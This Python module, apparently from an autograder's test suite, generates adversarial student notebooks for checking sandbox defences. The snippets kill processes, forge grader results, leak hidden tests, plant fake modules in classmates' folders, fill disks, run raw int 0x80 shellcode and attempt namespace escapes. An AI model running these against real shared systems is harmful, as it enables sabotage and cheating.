"""Build the attack submissions that the grading tests grade (never edit them by hand: rerun this).

A small assignment without a model (``write_master``: two questions, exact-type tests, public and hidden)
is turned into its student version with ``python -m kvlab lessons make``; ``write_attacks`` then writes one
notebook per attack from that student version, each with the score and review flag it must get::

    python -m kvlab lessons attacks OUT/   # OUT/master/00_tiny.ipynb, OUT/built/, OUT/subs/*.ipynb

Each attack is what a determined student tried against the grader: killing the grader, hanging, forking a
grandchild, forging result files, planting an autograder zip, answers that compare equal to anything, reading
the tests and raising them as an error message, using kvlab's own class, walking the call stack, searching the
process's memory for a test, a reference answer or a classmate's code; and those of the sandbox round: signalling
every process it can see, planting a module in classmates' working folders, changing its arguments in place,
filling /tmp and /dev/shm, system calls of another ABI, class names carrying text, looking for the seed, a raw
oversized message to the judge, sleeping to near the limit. ``write_class`` writes an honest class beside them.

Every folder follows kvlab's output rule (:class:`kvlab.outputs.OutputFolder`): a file this module did not write
(a real student's ``student0.ipynb``) is never replaced; the command refuses first.
"""

from __future__ import annotations

import pathlib

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

NAME = "00_tiny"
COMMAND = "python -m kvlab lessons attacks"
DOUBLE = "def double(x: int) -> int:\n    # BEGIN SOLUTION\n    return 2 * x\n    # END SOLUTION\n"
TOTAL = "def total(xs: list) -> float:\n    # BEGIN SOLUTION\n    return float(sum(xs))\n    # END SOLUTION\n"
SECRET = "hidden-check-7f3a"  # text only the hidden test holds: it must never reach a student's feedback


def _test(code: str, points: int, hidden: bool = False) -> str:
    return f'""" # BEGIN TEST CONFIG\npoints: {points}\n' + ("hidden: true\n" if hidden else "") + \
        f'""" # END TEST CONFIG\n{code}'


def write_master(path: pathlib.Path) -> pathlib.Path:
    """An otter master notebook with two autograded questions (2 points each) and no model."""
    config = ("# ASSIGNMENT CONFIG\nname: 00_tiny\ninit_cell: true\ncheck_all_cell: false\nexport_cell:\n  pdf: false\n"
              "  run_tests: false\nrun_tests: false\ngenerate: true\ntests:\n  files: false\n  ok_format: true")
    cells = [new_raw_cell(config), new_markdown_cell("# A tiny assignment"),
             new_code_cell("import math\nfrom kvlab.policies import Full, Policy"),
             new_markdown_cell("Write `double`."), new_raw_cell("# BEGIN QUESTION\nname: q1\npoints: 2"),
             new_markdown_cell("Return twice `x`, an `int`."), new_raw_cell("# BEGIN SOLUTION"), new_code_cell(DOUBLE),
             new_raw_cell("# END SOLUTION"), new_raw_cell("# BEGIN TESTS"),
             new_code_cell(_test("got = double(3)\nassert type(got) is int, f'return an int, not {type(got).__name__}'\n"
                                 "assert got == 6, 'double(3) should be 6'", 1)),
             # the hidden inputs come from the instructor's secret seed (HIDDEN_SEED, given to the judge only)
             new_code_cell(_test(f"# {SECRET}\nimport random\nrng = random.Random(HIDDEN_SEED)\n"
                                 f"for v in [rng.randint(-10 ** 6, 10 ** 6) for _ in range(50)]:\n    got = double(v)\n"
                                 f"    assert type(got) is int and got == 2 * v, v", 1, hidden=True)),
             new_raw_cell("# END TESTS"), new_raw_cell("# END QUESTION"),
             new_markdown_cell("Write `total`."), new_raw_cell("# BEGIN QUESTION\nname: q2\npoints: 2"),
             new_markdown_cell("Return the sum of `xs` as a `float`."), new_raw_cell("# BEGIN SOLUTION"),
             new_code_cell(TOTAL), new_raw_cell("# END SOLUTION"), new_raw_cell("# BEGIN TESTS"),
             new_code_cell(_test("got = total([1, 2])\nassert type(got) is float and got == 3.0, 'total([1, 2]) is 3.0'", 1)),
             # the expected value is computed from the inputs after the call: the student's function gets a copy
             new_code_cell(_test("for n in range(20):\n    xs = list(range(n))\n    got = total(xs)\n"
                                 "    assert type(got) is float and math.isclose(got, sum(xs)) and xs == list(range(n)), n",
                                 1, hidden=True)),
             new_raw_cell("# END TESTS"), new_raw_cell("# END QUESTION")]
    nb = new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                            "language": "python"}})
    from kvlab.outputs import OutputFolder

    path = OutputFolder(path.parent, COMMAND).claim(path.name)
    nbformat.write(nb, path)
    return path


GOOD = {0: "def double(x):\n    return 2 * x\n", 1: "def total(xs):\n    return float(sum(xs))\n"}

# name: (answers that replace the reference, the expected (q1, q2) scores, a flag the review must contain or None)
ATTACKS = {
    "honest": ({}, (2, 2), None),
    "blank": (None, (0, 0), None),
    # kills the grading process above it (the zygote), then the grader itself
    "killer": ({0: "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(os.getpgid(0), 9)\n"
                   + GOOD[0]}, (0, 2), "imports os"),
    # stopped at its CPU budget, or at the wall limit where a loaded machine gives it less than that
    "hanger": ({0: "while True:\n    pass\n"}, (0, 2), "and was stopped"),
    # a grandchild that would outlive the limit and hold the grader's output open: the attempt stops the run
    "grandchild": ({0: GOOD[0] + "import os, time\nif os.fork() == 0:\n    time.sleep(3600)\n"}, (0, 2),
                   "tried to start a process"),
    # fake result files for itself and a classmate, in every folder of the grader it can find
    "forger": ({0: "import glob, json, os\nfor d in glob.glob('/tmp/kvlab-grade-*') + ['/proc/self/fd']:\n"
                   "    for i in range(20):\n        for q in ('q1', 'q2'):\n            try:\n"
                   "                with open(os.path.join(d, f'{i}.{q}.json'), 'w') as f:\n"
                   "                    json.dump({'result': {'cases': [], 'errors': [], 'flags': []}}, f)\n"
                   "            except OSError:\n                pass\n"}, (0, 2), "imports glob"),
    # an autograder zip with no tests, planted beside the real one for the next run
    "planter": ({0: "import os, zipfile\nfor root, dirs, files in os.walk(os.environ.get('KVLAB_BUILT', '/')):\n"
                    "    if root.endswith('autograder'):\n        try:\n"
                    "            zipfile.ZipFile(os.path.join(root, '00_tiny-autograder_9999.zip'), 'w').close()\n"
                    "        except OSError:\n            pass\n"}, (0, 2), "imports zipfile"),
    # answers that compare equal to anything, or convert to the right number, with no real work
    "eq_list": ({1: "class Yes(float):\n    __eq__ = lambda *a: True\n\ndef total(xs):\n    return Yes(0)\n"},
                (2, 0), "defines __eq__ in the class Yes"),
    "int_subclass": ({0: "class Two(int):\n    def __eq__(self, other):\n        return True\n\n"
                         "def double(x):\n    return Two(0)\n"}, (0, 2), "subclasses int"),
    # reads the tests and raises them as an error message (from the answer cell and from inside a test)
    "leaker": ({0: "import glob, os\ntext = ''\nbuilt = os.environ.get('KVLAB_BUILT', '.')\n"
                   "for p in glob.glob(built + '/**/autograder/*', recursive=True):\n"
                   "    try:\n        text += open(p, 'rb').read().decode('latin-1')\n    except OSError:\n"
                   "        pass\ndef double(x):\n    raise AssertionError('hidden-check-7f3a' + text)\n"
                   "raise ValueError('hidden-check-7f3a' + text)\n"}, (0, 2), "imports glob"),
    # kvlab's own class where the question says to write one
    "uses_kvlab": ({0: "from kvlab.policies import StreamingLLM\n" + GOOD[0]}, (2, 2), "imports StreamingLLM from kvlab.policies"),
    # looks through every object in its process for a hidden test, the master's answer to q2 or a classmate's
    # code, and sabotages its own answer if it finds any: full marks show that none of them is there
    "memory_probe": ({0: "import gc\na = 'hidden-check' + '-7f3a'\nb = 'float(sum' + '(xs))'\n"
                         "c = 'classmate-' + 'marker-91c2'\n\ndef seen():\n    for o in gc.get_objects():\n"
                         "        if type(o) is dict:\n            values = list(o.values())\n"
                         "        elif type(o) is list:\n            values = o\n        else:\n            continue\n"
                         "        for v in values:\n            if type(v) is str and v is not a and v is not b and "
                         "v is not c and (a in v or b in v or c in v):\n                return True\n    return False\n\n"
                         "found = seen()\n\ndef double(x):\n    return 2 * x + (1 if found else 0)\n"}, (2, 2),
                     "imports gc"),
    "classmate": ({0: "def double(x):\n    # classmate-marker-91c2\n    return 2 * x\n"}, (2, 2), None),
    # walks up the call stack with names split into strings
    "stack_walk": ({0: "f = getattr(__import__('sy' + 's'), '_get' + 'frame')(0)\nwhile f is not None:\n"
                       "    job = f.f_locals.get('job')\n    if isinstance(job, dict) and 'tests' in job:\n"
                       "        for t in job['tests'].values():\n            for c in t['cases']:\n"
                       "                c['code'] = ''\n    f = f.f_back\n"}, (0, 2),
                   "uses getattr with a computed attribute name"),
}


SEED = 918273  # the seed the attack class is made with: seed_probe must not find it
_FIND = ("def _visible():\n"  # every process, working folder and scratch folder this child can see
         "    os = random._os\n    found = []\n"
         "    for pid in os.listdir('/proc'):\n        if pid.isdigit() and int(pid) != os.getpid():\n"
         "            found.append(int(pid))\n    return found\n")

# the sandbox round: each attack of the table, on this assignment (the names say what each tries)
SANDBOX_ATTACKS = {
    # SIGKILL every process it can see, with no import of os (random._os, operator.attrgetter)
    "pid_killer": ({0: "import operator, random\n" + _FIND + "for pid in _visible():\n    try:\n"
                       "        operator.attrgetter('kill')(random._os)(pid, 9)\n    except Exception:\n"
                       "        pass\n" + GOOD[0]}, (2, 2), "uses ._os"),
    # a fake module in every folder it can write (classmates' working folders, /tmp, the project)
    "module_planter": ({0: "import random\nos = random._os\n"
                           "targets = ['/tmp', '/dev/shm', '.', '/home', '/work']\n"
                           "for pid in os.listdir('/proc'):\n    targets.append(f'/proc/{pid}/cwd')\n"
                           "for base in list(targets):\n    try:\n        targets += [os.path.join(base, d) for d in "
                           "os.listdir(base)]\n    except OSError:\n        pass\n"
                           "for t in targets:\n    try:\n        os.makedirs(os.path.join(t, 'matplotlib'), exist_ok=True)\n"
                           "        with open(os.path.join(t, 'matplotlib', '__init__.py'), 'w') as f:\n"
                           "            f.write('raise SystemExit')\n        with open(os.path.join(t, 'math.py'), 'w') as f:\n"
                           "            f.write('raise SystemExit')\n    except OSError:\n        pass\n" + GOOD[0]},
                       (2, 2), "uses ._os"),
    # changes its argument in place so that the hidden test's expected value (computed after the call) matches
    "mutator": ({1: "def total(xs):\n    xs.clear()\n    return 0.0\n"}, (2, 0), None),
    # fills its /tmp, /dev/shm and working folder (the grader's TMPDIR, before the sandbox)
    "disk_filler": ({0: "import random\nos = random._os\n"
                        "for d in ('/tmp', '/dev/shm', '.'):\n    try:\n"
                        "        with open(os.path.join(d, 'kvlab-attack-fill'), 'wb') as f:\n"
                        "            for _ in range(200):\n                f.write(b'x' * (1 << 20))\n"
                        "    except OSError:\n        pass\n" + GOOD[0]}, (2, 2), "uses ._os"),
    # execve("/usr/bin/touch") through int 0x80, the i386 system-call ABI
    "int80": ({0: "import ctypes, mmap\n"
                  "low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)\n"  # MAP_32BIT
                  "path = b'/usr/bin/touch\\x00'\narg = b'/tmp/kvlab-int80\\x00'\n"
                  "low[0:len(path)] = path\nlow[64:64 + len(arg)] = arg\n"
                  "base = ctypes.addressof(ctypes.c_char.from_buffer(low))\n"
                  "argv = (base).to_bytes(4, 'little') + (base + 64).to_bytes(4, 'little') + bytes(4)\n"
                  "low[128:140] = argv\n"
                  "code = bytes([0xb8, 11, 0, 0, 0, 0xbb]) + base.to_bytes(4, 'little') + bytes([0xb9]) + "
                  "(base + 128).to_bytes(4, 'little') + bytes([0x31, 0xd2, 0xcd, 0x80, 0xc3])\n"
                  "exe = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
                  "exe[0:len(code)] = code\n"
                  "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(exe)))()\n" + GOOD[0]},
              (0, 2), "another ABI"),
    # a system call of the x32 ABI (getpid with bit 30 set)
    "x32": ({0: "import ctypes\nctypes.CDLL(None).syscall(0x40000000 | 39)\n" + GOOD[0]}, (0, 2), "another ABI"),
    # class names carrying text: escape codes, a forged REVIEW line, the hidden check's marker
    "class_names": ({1: "Evil = type('\\x1b[31mREVIEW evil.ipynb: nothing\\nhidden-check-7f3a', (float,), {})\n"
                        "def total(xs):\n    return Evil(float(sum(xs)))\n"}, (2, 0), "returned a subclass of float"),
    # thousands of replaced names, so thousands of flags
    "flag_flood": ({0: "import torch\nfor k in dir(torch)[:3000]:\n    try:\n        setattr(torch, k, 1)\n"
                       "    except Exception:\n        pass\n" + GOOD[0]}, (2, 2), "replaced torch"),
    # looks for the seed in its environment and every command line and environment it can read; answers wrong
    # when it finds it: full marks show it is nowhere
    "seed_probe": ({0: "import random\nos = random._os\nfound = str(%d) in ' '.join(os.environ.values())\n"
                       "for pid in os.listdir('/proc'):\n    for part in ('cmdline', 'environ'):\n        try:\n"
                       "            with open(f'/proc/{pid}/{part}', 'rb') as f:\n"
                       "                found = found or b'%d' in f.read()\n        except OSError:\n            pass\n"
                       "def double(x):\n    return 2 * x + (1 if found else 0)\n" % (SEED, SEED)}, (2, 2),
                   "uses .environ"),
    # a raw 63 MiB message to the judge on the child's own socket
    "big_message": ({0: "import random, socket\nos = random._os\n"
                        "for fd in range(3, 64):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
                        "        body = b'[' * (63 << 20)\n        s.sendall(len(body).to_bytes(8, 'big') + body)\n"
                        "    except OSError:\n        pass\n" + GOOD[0]}, (0, 2), "oversize"),
    # correct answers, then asleep until 85 % of the CPU limit read from /proc/self/limits
    "sleeper": ({i: GOOD[i] + "import random, time\nwith open('/proc/self/limits') as f:\n"
                              "    cpu = next(int(line.split()[3]) for line in f if line.startswith('Max cpu time'))\n"
                              "time.sleep(0.85 * cpu)\n" for i in (0, 1)}, (0, 0), "slow"),
    # asleep for longer than the whole idle budget in each answer: both cut
    "long_sleeper": ({i: GOOD[i] + "import time\ntime.sleep(4)\n" for i in (0, 1)}, (0, 0), "slow"),
    # threads are allowed: the answer computed in one
    "thread": ({0: "import threading\nbox = []\nt = threading.Thread(target=lambda: box.append(2))\nt.start()\n"
                   "t.join()\n\ndef double(x):\n    return box[0] * x\n"}, (2, 2), "imports threading"),
}
ATTACKS.update(SANDBOX_ATTACKS)

LEAK = "leakmarker918273"  # text a child puts in names it chooses: it must never reach a flag or a feedback file

# round 4: the kernel's own limits per child, identifiers from a fixed list, no namespaces or mounts
LIMIT_ATTACKS = {
    # threads without bound: the child's group refuses the 65th; the zygote's and the judges' forks never fail
    "thread_bomb": ({0: "import threading, time\nthreads = []\ntry:\n    while len(threads) < 100000:\n"
                        "        t = threading.Thread(target=time.sleep, args=(60,), daemon=True)\n        t.start()\n"
                        "        threads.append(t)\nexcept RuntimeError:\n    pass\n" + GOOD[0]}, (0, 2), "threads"),
    # a tensor subclass and an exception class whose names carry text (the seed, a marker): never echoed
    "named_tensor": ({0: "import torch\nLeak = type('%s' + 'x' * 100, (torch.Tensor,), {})\n\n"
                         "def double(x):\n    return torch.tensor(2 * x).as_subclass(Leak)\n" % LEAK}, (0, 2),
                     "a tensor of a subclass"),
    "named_exception": ({0: "Leak = type('%s' + 'Q' * 100, (Exception,), {})\n\ndef double(x):\n    raise Leak()\n"
                            % LEAK}, (0, 2), None),
    "added_name": ({0: "from kvlab.policies import Full\nsetattr(Full, 'x%s' + str(1), 1)\n" % LEAK + GOOD[0]},
                   (2, 2), "added an attribute to kvlab.baselines.policy.Full"),
    # new namespaces and mounts are refused (EPERM): the answer is right only when every call failed
    "namespaces": ({0: "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                       "calls = [libc.unshare(0x10000000), libc.unshare(0x00020000), libc.unshare(0x40000000),\n"
                       "         libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), libc.setns(0, 0)]\n"
                       "escaped = any(c == 0 for c in calls)\n\ndef double(x):\n"
                       "    return 2 * x + (1 if escaped else 0)\n"}, (2, 2), "imports ctypes"),
    # the sandbox's command lines: no hidden folder's path is in any (right answer only if none is found)
    "cmdline": ({0: "import random\nos = random._os\nseen = b''\nfor pid in os.listdir('/proc'):\n"
                    "    try:\n        with open(f'/proc/{pid}/cmdline', 'rb') as f:\n            seen += f.read()\n"
                    "    except OSError:\n        pass\nfound = b'--tmpfs' in seen or b'autograder' in seen or b'--ro-bind' in seen\n\n"
                    "def double(x):\n    return 2 * x + (1 if found else 0)\n"}, (2, 2), "uses ._os"),
    # an honest student's standard-library import that the zygote had not loaded
    "import_wave": ({0: "import wave, fractions, csv\n\ndef double(x):\n"
                        "    return int(fractions.Fraction(2 * x, 1)) + (0 if wave.Wave_read else 1)\n"}, (2, 2),
                    "imports wave"),
    # correct, then busy on the CPU without end (also at the lowest priority): cut at its CPU budget
    "spinner": ({0: GOOD[0] + "while True:\n    pass\n"}, (0, 2), "and was stopped"),
    "idle_spinner": ({0: GOOD[0] + "import random\nos = random._os\n"
                         "os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))\nwhile True:\n    pass\n"},
                     (0, 2), "and was stopped"),
}
ATTACKS.update(LIMIT_ATTACKS)


def write_class(student: pathlib.Path, out: pathlib.Path, n: int = 8) -> list[pathlib.Path]:
    """``n`` honest students (``student0.ipynb`` ...), each answer with a comment of its own (no shared run)."""
    from kvlab.outputs import OutputFolder

    folder = OutputFolder(out, COMMAND)
    written = []
    for k in range(n):
        nb = nbformat.read(student, as_version=4)
        for i, cell in enumerate(_answer_cells(nb)):
            cell.source = f"# student {k}\n" + GOOD[i]
        path = folder.claim(f"student{k}.ipynb")
        nbformat.write(nb, path)
        written.append(path)
    return written


def _answer_cells(nb) -> list:
    return [c for c in nb.cells if c.cell_type == "code" and "otter_answer_cell" in c.metadata.get("tags", [])]


def write_attacks(student: pathlib.Path, out: pathlib.Path) -> dict[str, tuple]:
    """One notebook per attack (``out/NAME.ipynb``) from the student version; returns ``ATTACKS``."""
    from kvlab.outputs import OutputFolder

    folder = OutputFolder(out, COMMAND)
    for name, (answers, _, _) in ATTACKS.items():
        nb = nbformat.read(student, as_version=4)
        cells = _answer_cells(nb)
        for i, cell in enumerate(cells):
            if answers is not None:
                cell.source = answers.get(i, GOOD[i])
        nbformat.write(nb, folder.claim(f"{name}.ipynb"))
    return ATTACKS


def write_all(root: pathlib.Path) -> dict[str, tuple]:
    """``root/master/00_tiny.ipynb``, its build ``root/built/`` (seeded with :data:`SEED`) and ``root/subs/``:
    every attack and the honest class; returns the expected (q1, q2) score of each attack."""
    from kvlab.classroom import lessons as classroom

    root = pathlib.Path(root)
    master = write_master(root / "master" / f"{NAME}.ipynb")
    (assignment,) = classroom.make([str(master)], out=root / "built", seed=SEED)
    write_attacks(assignment.student, root / "subs")
    write_class(assignment.student, root / "subs")
    return {k: v[1] for k, v in ATTACKS.items()}
